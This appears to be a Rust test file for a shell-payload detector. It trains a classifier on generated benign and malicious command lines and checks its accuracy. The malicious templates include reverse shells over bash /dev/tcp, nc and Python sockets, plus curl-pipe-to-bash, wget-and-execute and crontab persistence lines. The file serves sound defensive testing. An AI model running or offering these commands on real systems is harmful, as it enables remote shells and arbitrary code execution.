@@ -1,0 +1,125 @@
+//! A model trained on a generated corpus separates held-out texts and explains itself.
+
+use std::sync::Arc;
+
+use warden_payload::model::PayloadModel;
+use warden_payload::train::{TrainParams, roc_auc, train};
+use warden_payload::{Analyzer, Shell, VerdictConfig, features};
+
+/// Benign and malicious command lines built from parts, so held-out texts are new strings.
+fn corpus(seed: u64, n: usize) -> Vec<(String, bool)> {
+    let benign_tools = [
+        "ls -la",
+        "git log --oneline",
+        "grep -r TODO src",
+        "tar -czf backup.tgz docs",
+        "du -sh *",
+        "ps aux",
+        "df -h",
+        "make test",
+        "cargo build",
+        "npm install",
+    ];
+    let malicious = [
+        "curl -s http://{ip}/x.sh | bash",
+        "bash -i >& /dev/tcp/{ip}/{port} 0>&1",
+        "nc -e /bin/sh {ip} {port}",
+        "wget -q http://{ip}/m -O /tmp/m && chmod +x /tmp/m && /tmp/m",
+        "python3 -c 'import socket,os;s=socket.socket();s.connect((\"{ip}\",{port}));os.dup2(s.fileno(),0)'",
+        "echo '* * * * * curl http://{ip}/b|sh' | crontab -",
+    ];
+    let mut state = seed;
+    let mut next = move || {
+        state = state
+            .wrapping_mul(6364136223846793005)
+            .wrapping_add(1442695040888963407);
+        (state >> 33) as usize
+    };
+    (0..n)
+        .map(|i| {
+            let ip = format!(
+                "{}.{}.{}.{}",
+                11 + next() % 200,
+                next() % 255,
+                next() % 255,
+                1 + next() % 250
+            );
+            let port = 1024 + next() % 60000;
+            if i % 5 == 0 {
+                let t = malicious[next() % malicious.len()]
+                    .replace("{ip}", &ip)
+                    .replace("{port}", &port.to_string());
+                (t, true)
+            } else {
+                let t = format!(
+                    "{} {}",
+                    benign_tools[next() % benign_tools.len()],
+                    ["", "-v", "| head", "> out.txt", "&& echo ok"][next() % 5]
+                );
+                (t, false)
+            }
+        })
+        .collect()
+}
+
+#[test]
+fn a_trained_model_separates_new_texts_and_survives_its_file() {
+    let plain = Analyzer::new(None, VerdictConfig::default());
+    let set = features::FeatureSet {
+        bits: 16,
+        ..features::FeatureSet::default()
+    };
+    let rows: Vec<_> = corpus(1, 600)
+        .into_iter()
+        .map(|(t, y)| {
+            (
+                features::extract(&plain.examine(&t, Some(Shell::Sh)), &set),
+                y,
+            )
+        })
+        .collect();
+    let params = TrainParams {
+        features: set,
+        epochs: 6,
+        ..TrainParams::default()
+    };
+    let model = train(&rows, &params, "test").unwrap();
+    assert!(model.summary.validation_auc > 0.95, "{:?}", model.summary);
+    let bytes = model.to_bytes();
+    let model = Arc::new(PayloadModel::from_bytes(&bytes).unwrap());
+    let a = Analyzer::new(Some(model), VerdictConfig::default());
+    let held_out = corpus(99, 300);
+    let scored: Vec<(f64, bool)> = held_out
+        .iter()
+        .map(|(t, y)| (f64::from(a.analyze(t, Some(Shell::Sh)).score), *y))
+        .collect();
+    assert!(roc_auc(&scored) > 0.97, "{}", roc_auc(&scored));
+    let v = a.analyze(
+        "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
+        Some(Shell::Bash),
+    );
+    let m = v.model.as_ref().unwrap();
+    assert!(m.probability > 0.5 && !m.raised_by.is_empty(), "{m:?}");
+    assert!(v.explanation.contains("The model rates it"));
+}
+
+#[test]
+fn one_class_training_is_refused() {
+    let plain = Analyzer::new(None, VerdictConfig::default());
+    let set = features::FeatureSet {
+        bits: 12,
+        ..features::FeatureSet::default()
+    };
+    let rows = vec![(features::extract(&plain.examine("ls", None), &set), false)];
+    assert!(
+        train(
+            &rows,
+            &TrainParams {
+                features: set,
+                ..TrainParams::default()
+            },
+            ""
+        )
+        .is_err()
+    );
+}
